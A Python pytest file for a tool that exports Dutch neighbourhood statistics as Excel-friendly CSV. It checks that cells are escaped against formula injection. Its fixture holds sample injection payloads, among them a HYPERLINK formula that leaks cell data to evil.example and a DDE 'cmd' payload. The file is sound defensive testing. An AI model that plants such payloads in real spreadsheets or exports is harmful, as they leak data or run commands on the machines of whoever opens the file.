"""`monitor export`: published figures as CSV for Dutch Excel, safe against formula injection."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import pytest

from demo.sample_publication import sample_frames, write_tables
from orchestration import cli
from orchestration.contract import wide_columns
from orchestration.export import ExportError, escape_text, export_quarter, format_number
from orchestration.publish import publish_quarter

Q = "2026Q3"
NASTY = {  # area code -> a delivered area name a spreadsheet would execute
    "GM0999": '=HYPERLINK("http://evil.example/?x="&A1,"Voorbeeldstad")',
    "WK099901": "@SUM(1+1)",
    "BU09990101": "+31 Oude Haven",
    "BU09990102": "-1+2 Nieuwe Markt",
    "BU09990A01": "\t=cmd|' /C calc'!A0",
    "BU09990A0B": "\r=1+1;Werf",
}


@pytest.fixture
def monitor_path(tmp_path: Path) -> Path:
    """A published monitor.duckdb of the gate's sample quarter, with nasty area names."""
    frames = sample_frames(Q)
    for frame in frames.values():
        frame["area_name"] = frame["area_code"].map(NASTY).fillna(frame["area_name"])
    warehouse = tmp_path / "warehouse.duckdb"
    with duckdb.connect(str(warehouse)) as con:
        write_tables(con, **frames)
    target = tmp_path / "data" / "monitor.duckdb"
    with duckdb.connect(str(warehouse), read_only=True) as con:
        publish_quarter(con, Q, target, run_id="r1", data_version="v1", checks_passed=["x"],
                        n_primary=1, n_secondary=1, synthetic=True)  # fmt: skip
    return target


def read_csv(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM missing"
    assert b"\r\n" in data
    text = data[3:].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def published(monitor_path: Path, sql: str) -> list[tuple]:
    with duckdb.connect(str(monitor_path), read_only=True) as con:
        return con.execute(sql, [Q]).fetchall()


def number(cell: str) -> float | None:
    return None if cell == "" else float(cell.replace(",", "."))


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Oude Haven", "Oude Haven"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_escape_text(text: str, escaped: str) -> None:
    assert escape_text(text) == escaped


@pytest.mark.parametrize(
    ("value", "text"),
    [(12.5, "12,5"), (1234.0, "1234"), (0.000125, "0,000125"), (-3.25, "-3,25"),
     (123456789.125, "123456789,125"), (7, "7"), (1e20, "100000000000000000000")],
)  # fmt: skip
def test_numbers_have_a_decimal_comma_and_no_exponent(value: float, text: str) -> None:
    assert format_number(value) == text
    assert float(text.replace(",", ".")) == value


def test_every_level_is_written_escaped_and_reads_back_the_same(
    monitor_path: Path, tmp_path: Path
) -> None:
    out = tmp_path / "export"
    paths = export_quarter(monitor_path, Q, "all", out)
    assert [p.name for p in paths] == [f"{Q}_{t}.csv" for t in
                                       ("gemeente", "wijk", "buurt", "area_indicators")]  # fmt: skip
    assert sorted(p.name for p in out.iterdir()) == sorted(p.name for p in paths)  # no temp files

    for level in ("gemeente", "wijk", "buurt"):
        rows = read_csv(out / f"{Q}_{level}.csv")
        assert rows[0] == wide_columns()
        expected = published(
            monitor_path, f"select * from main.{level} where quarter = ? order by area_code"
        )
        assert len(rows) - 1 == len(expected) > 0
        for cells, row in zip(rows[1:], expected, strict=True):
            quarter, period_type, period, code, name, _parent, *values = row
            assert cells[:4] == [quarter, period_type, period, code]
            assert cells[4] == ("'" + name if code in NASTY else name)
            assert cells[4].startswith("'") == (code in NASTY)
            assert [number(c) for c in cells[6:]] == values  # same numbers, NULL = empty

    long_rows = read_csv(out / f"{Q}_area_indicators.csv")
    assert long_rows[0] == ["quarter", "period_type", "period", "area_level", "area_code",
                            "area_name", "parent_code", "indicator", "value", "status"]  # fmt: skip
    expected = published(
        monitor_path,
        "select area_code, indicator, value, status from main.area_indicators "
        "where quarter = ? order by area_level, area_code, indicator",
    )
    got = [(c[4], c[7], number(c[8]), c[9]) for c in long_rows[1:]]
    assert got == expected
    assert {c[5] for c in long_rows[1:] if c[4] in NASTY} == {"'" + n for n in NASTY.values()}
    suppressed = [c for c in long_rows[1:] if c[9] == "suppressed"]
    assert suppressed and all(c[8] == "" for c in suppressed)
    decimals = [c[8] for c in long_rows[1:] if "," in c[8]]
    assert decimals and not any("." in c[8] or "e" in c[8].lower() for c in long_rows[1:])


def test_no_cell_starts_a_formula(monitor_path: Path, tmp_path: Path) -> None:
    """Whatever the level: a cell starting with a formula character is a number or escaped."""
    for path in export_quarter(monitor_path, Q, "all", tmp_path):
        for row in read_csv(path)[1:]:
            for cell in row:
                if cell[:1] in ("=", "+", "@", "\t", "\r"):
                    pytest.fail(f"{path.name}: a cell starts a formula: {cell!r}")
                if cell.startswith("-"):
                    float(cell.replace(",", "."))  # a negative number, nothing else


def test_one_level_and_the_cli(monitor_path: Path, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("MONITOR_DATA_DIR", str(monitor_path.parent))
    assert cli.main(["export", "--quarter", Q, "--level", "wijk"]) == 0
    written = sorted(p.name for p in (monitor_path.parent / "exports").iterdir())
    assert written == [f"{Q}_wijk.csv"]
    out = tmp_path / "elsewhere"
    assert cli.main(["export", "--quarter", Q, "--level", "buurt", "--out", str(out)]) == 0
    assert [len(r) for r in read_csv(out / f"{Q}_buurt.csv")][1:] == [len(wide_columns())] * 4


def test_refuses_what_is_not_published(monitor_path: Path, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"2026Q2 is not published in .* \(published: 2026Q3\)"):
        export_quarter(monitor_path, "2026Q2", "all", tmp_path)
    with pytest.raises(ExportError, match=r"no published file at .*: run `monitor run` first"):
        export_quarter(tmp_path / "missing.duckdb", Q, "all", tmp_path)
    with pytest.raises(ValueError, match="unknown level 'straat'"):
        export_quarter(monitor_path, Q, "straat", tmp_path)
    assert list(tmp_path.glob("*.csv")) == []
